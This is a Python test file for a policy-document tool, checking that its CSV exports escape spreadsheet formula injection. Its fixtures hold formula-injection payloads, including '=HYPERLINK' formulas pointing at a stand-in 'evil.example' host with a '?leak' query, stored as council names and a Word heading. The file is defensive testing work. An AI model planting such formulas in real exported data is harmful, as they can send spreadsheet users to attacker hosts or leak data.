"""Every CSV clausewise writes is safe to open in a spreadsheet, and reviews have one layout.

The database holds real corpus documents stored under names a spreadsheet would run as
formulas: a council called =HYPERLINK(…), a policy called @…, a body "-Full Council", and a
model whose Word heading is =HYPERLINK(…). Each CSV the command line writes must show them as
text.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import docx
import pytest

from clausewise.reports import csv_table, safe_cell
from clausewise.reports.spreadsheet import FORMULA_STARTS
from tests.conftest import corpus_path
from tests.store.conftest import run

COUNCIL = '=HYPERLINK("http://evil.example/?leak","Spilsby")'
MODEL_COUNCIL = '=HYPERLINK("http://evil.example","Sandon")'
POLICY = "@Councillor-Officer Protocol"
SECTION = '=HYPERLINK("http://evil.example/?s","CORRESPONDENCE")'
BODY = "-Full Council"
MINUTE = "+12/26"
AS_OF = "2026-11-23"
REFERENCE = "Spilsby"  # the council by part of its name (a name with "/" in it reads as a file)


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def assert_safe(text: str) -> list[list[str]]:
    """No cell a spreadsheet would run: one that starts like a formula must be a plain number."""
    rows = _rows(text)
    assert rows, "an empty CSV proves nothing"
    for row in rows:
        for cell in row:
            if cell[:1] in FORMULA_STARTS:
                float(cell)  # "-3" days is a number, not a formula; anything else fails here
    return rows


def _cells(rows: list[list[str]]) -> set[str]:
    return {cell for row in rows for cell in row}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-x", "@SUM(A1)", "\tA", "\rA", COUNCIL])
def test_formula_like_text_becomes_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    assert _rows(csv_table(["name"], [[text]]))[1] == ["'" + text]


def test_other_values_are_kept() -> None:
    assert [safe_cell(v) for v in (-3, 2.5, "Spilsby", "", None, date(2027, 5, 1))] == [
        -3,
        2.5,
        "Spilsby",
        "",
        "",
        "2027-05-01",
    ]


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> str:
    folder = tmp_path_factory.mktemp("hostile")
    model = docx.Document(str(corpus_path("sandon-burston", "docx")))
    heading = next(p for p in model.paragraphs if p.text.strip() == "CORRESPONDENCE")
    for k, word_run in enumerate(heading.runs):
        word_run.text = SECTION if k == 0 else ""
    model_path = folder / "model.docx"
    model.save(str(model_path))
    db = str(folder / "hostile.db")
    run(db, "add", str(model_path), "--model", "--council", MODEL_COUNCIL, "--policy", POLICY, "--version", "3")
    run(
        db,
        *("add", str(corpus_path("spilsby", "docx")), "--council", COUNCIL, "--policy", POLICY, "--version", "2026"),
        *("--adopted", "2026-04-14", "--adopted-by", BODY, "--minute", MINUTE, "--review-due", "2026-12-01"),
    )
    run(db, "review", REFERENCE, "--on", "2026-05-01", "--next", "2026-12-01", "--minute", "=1+1")
    return db


def test_the_hostile_heading_is_stored_as_a_section(hostile_db: str) -> None:
    page = run(hostile_db, "report", "divergence", REFERENCE, "--as-of", AS_OF, "--format", "md").output
    assert "### \\=HYPERLINK" in page  # the model's section, read from its Word heading


def test_councils_csv(hostile_db: str) -> None:
    rows = assert_safe(run(hostile_db, "councils", "--format", "csv").output)
    assert rows[0] == ["name", "kind", "policies", "versions"]
    assert {"'" + COUNCIL, "'" + MODEL_COUNCIL} <= _cells(rows)


def test_reviews_csv_from_both_commands_is_one_table(hostile_db: str, tmp_path: Path) -> None:
    """`clausewise reviews` and `clausewise report reviews` write the same columns and rows."""
    listed = run(hostile_db, "reviews", "--as-of", AS_OF, "--within", "90", "--format", "csv").output
    printed = run(hostile_db, "report", "reviews", "--as-of", AS_OF, "--within", "90", "--format", "csv").output
    target = tmp_path / "reviews.csv"
    run(hostile_db, "report", "reviews", "--as-of", AS_OF, "--within", "90", "-o", str(target))
    assert listed == printed == target.read_text(encoding="utf-8")
    rows = assert_safe(listed)
    assert rows[0] == [
        *("status", "days", "council", "policy", "version", "adopted_on", "review_due"),
        *("model_version", "model_now", "model_revised"),
    ]
    spilsby = next(row for row in rows if row[2] == "'" + COUNCIL)
    assert spilsby == [
        *("Due within 30 days", "8", "'" + COUNCIL, "'" + POLICY, "2026", "2026-04-14", "2026-12-01"),
        *("3", "3", "no"),  # detected when it was added: the hostile model's version 3, its only one
    ]


def test_matrix_csv(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "matrix.csv"
    run(hostile_db, "report", "matrix", "--as-of", AS_OF, "-o", str(target))
    rows = assert_safe(target.read_text(encoding="utf-8"))
    assert [row[0] for row in rows] == ["council", "'" + COUNCIL]
    assert any(cell.startswith("'" + SECTION) for cell in rows[0])  # a clause cited under the heading


def test_divergence_csv(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "divergence.csv"
    run(hostile_db, "report", "divergence", REFERENCE, "--as-of", AS_OF, "-o", str(target))
    rows = assert_safe(target.read_text(encoding="utf-8"))
    assert rows[0][:2] == ["council", "section"]
    assert {row[0] for row in rows[1:]} == {"'" + COUNCIL}
    assert "'" + SECTION in [row[1] for row in rows]


def test_history_csv(hostile_db: str, tmp_path: Path) -> None:
    target = tmp_path / "history.csv"
    run(hostile_db, "report", "history", REFERENCE, "--as-of", AS_OF, "-o", str(target))
    table = list(csv.DictReader(io.StringIO(target.read_text(encoding="utf-8"))))
    assert_safe(target.read_text(encoding="utf-8"))
    (entry,) = table
    assert (entry["adopted_by"], entry["minute"]) == ("'" + BODY, "'" + MINUTE)
    assert entry["review_due"] == "2026-12-01"
    assert entry["reviews"] == "reviewed 2026-05-01 (unchanged, minute =1+1); next review 2026-12-01"
